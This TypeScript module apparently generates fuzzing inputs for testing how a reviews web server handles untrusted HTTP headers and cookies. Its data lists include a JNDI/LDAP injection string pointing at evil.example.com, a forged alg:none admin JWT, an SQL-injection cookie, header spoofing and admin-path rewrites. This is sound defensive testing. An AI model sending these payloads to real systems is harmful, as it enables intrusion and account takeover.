import fc from 'fast-check';

import type { Role } from './plan.ts';

type Header = [name: string, value: string];

/** Headers that lie, that tempt a server to believe them, or that it could choke on. */
const odd: Header[] = [
  ['origin', 'https://evil.example.com'],
  ['origin', 'null'],
  ['origin', 'https://reviews.example.com.evil.example.com'],
  ['origin', 'http://reviews.example.com'],
  ['origin', ''],
  ['sec-fetch-site', 'cross-site'],
  ['sec-fetch-site', 'same-site'],
  ['sec-fetch-site', 'none'],
  ['sec-fetch-site', 'anything'],
  ['idempotency-key', 'short'],
  ['idempotency-key', 'with spaces and <fz-tag>'],
  ['idempotency-key', 'k'.repeat(101)],
  ['idempotency-key', 'the-same-for-everybody'],
  ['host', 'evil.example.com'],
  ['host', 'reviews.example.com:99999'],
  ['host', '"><fz-host>'],
  ['host', 'user@reviews.example.com'],
  ['x-forwarded-host', 'evil.example.com'],
  ['x-forwarded-host', '"><fz-host>'],
  ['x-forwarded-proto', 'http'],
  ['x-forwarded-proto', 'gopher'],
  ['x-original-url', '/api/admin/users'],
  ['x-rewrite-url', '/api/admin/users'],
  ['x-http-method-override', 'DELETE'],
  ['x-request-id', 'chosen-by-the-client'],
  ['x-request-id', '<fz-id>'],
  ['x-user-id', '1'],
  ['authorization', 'Bearer for-nobody'],
  ['authorization', 'Basic YWRtaW46YWRtaW4='],
  ['accept', 'application/xml;q=0.1, */*;q=x'],
  ['accept', 'text/html'],
  ['accept-encoding', 'br;q=0, gzip;q=0, identity;q=0'],
  ['accept-encoding', 'gzip, deflate, br, zstd, *'],
  ['accept-encoding', ';;;q=,,='],
  ['accept-language', '<fz-language>'],
  ['content-encoding', 'gzip'],
  ['content-language', 'tlh'],
  ['if-none-match', '*'],
  ['if-none-match', '"x", W/"y", z'],
  ['if-modified-since', 'yesterday'],
  ['range', 'bytes=0-0,-1,99999999999999999999-'],
  ['expect', '200-ok'],
  ['upgrade', 'websocket'],
  ['te', 'trailers'],
  ['referer', 'https://evil.example.com/"><fz-referrer>'],
  ['user-agent', '<fz-agent>${jndi:ldap://evil.example.com/a}'],
  ['cookie2', '$Version=1'],
  ['forwarded', 'for=unknown;host=evil.example.com'],
  ['purpose', 'prefetch'],
  ['x-long', 'h'.repeat(7_000)],
];

export const oddHeaders: fc.Arbitrary<Header[]> = fc.oneof(
  { weight: 6, arbitrary: fc.constant<Header[]>([]) },
  { weight: 3, arbitrary: fc.constantFrom(...odd).map((header) => [header]) },
  { weight: 1, arbitrary: fc.array(fc.constantFrom(...odd), { minLength: 2, maxLength: 4 }) },
);

const someToken = 'A'.repeat(43);

/** Cookies that no sign-in made. */
export const garbageCookie: fc.Arbitrary<string> = fc.oneof(
  fc.stringMatching(/^[\w-]{43}$/).map((token) => `__Host-sid=${token}`),
  fc.constantFrom(
    '__Host-sid=',
    `__Host-sid="${someToken}"`,
    `__Host-sid=${someToken}; __Host-sid=${someToken.toLowerCase()}`,
    `__Host-sid=${'B'.repeat(6_000)}`,
    '__Host-sid=%00%ff%zz',
    `sid=${someToken}; __Secure-sid=${someToken}`,
    `__Host-sid=${someToken}; __proto__=1; constructor=2; hasOwnProperty=3`,
    '__Host-sid=eyJhbGciOiJub25lIn0.eyJpc0FkbWluIjp0cnVlfQ.',
    "__Host-sid=' or true --",
    `__Host-step=${someToken}; __Host-known=${someToken}; __Host-reg=${someToken}`,
    '__Host-step=%00; __Host-known=' + 'K'.repeat(5_000),
    ';;;=;=;,',
  ),
);

/** What every browser sends through a proxy; each request comes from its own address. */
export function browserHeaders(number: number): Header[] {
  const [a, b, c] = [number >> 16, number >> 8, number].map((part) => part & 255);
  return [
    ['host', 'reviews.example.com'],
    ['sec-fetch-site', 'same-origin'],
    ['x-forwarded-for', `10.${a}.${b}.${c}`],
    ['x-forwarded-proto', 'https'],
  ];
}

/** Later ones replace earlier ones; an origin counts only without fetch metadata. */
export function mergeHeaders(role: Role, ...lists: readonly Header[][]): Header[] {
  const all = new Map(lists.flat());
  if (all.has('origin') && all.get('sec-fetch-site') === 'same-origin')
    all.delete('sec-fetch-site');
  if (role === 'signed out') all.delete('cookie');
  return [...all];
}
